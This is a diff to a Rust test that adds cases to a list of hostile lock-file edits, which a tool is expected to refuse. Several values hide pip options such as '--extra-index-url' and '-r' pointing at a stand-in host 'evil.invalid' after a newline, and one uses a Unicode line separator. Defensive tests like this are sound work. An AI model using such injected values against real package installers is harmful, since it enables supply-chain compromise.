@@ -255,7 +255,7 @@ fn hostile_locks_are_refused_where_they_are_read() {
     let (manifest, _, lock) = locked(dir.path());
     let good: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
-    let cases: [(&str, &Edit); 9] = [
+    let cases: [(&str, &Edit); 11] = [
         ("version", &|lock| {
             lock["packages"][0]["version"] =
                 "2.9.1\n--extra-index-url https://evil.invalid/simple".into()
@@ -280,6 +280,12 @@ fn hostile_locks_are_refused_where_they_are_read() {
         }),
         ("index", &|lock| {
             lock["packages"][0]["index"] = "local\n-r https://evil.invalid/r.txt".into()
+        }),
+        ("assumed python", &|lock| {
+            lock["assumed"]["python"] = "3.12\n--extra-index-url https://evil.invalid/".into()
+        }),
+        ("assumed glibc", &|lock| {
+            lock["assumed"]["glibc"] = "2.39\u{2028}x".into()
         }),
         ("manifest digest", &|lock| {
             lock["manifest_sha256"] = "aa".into()
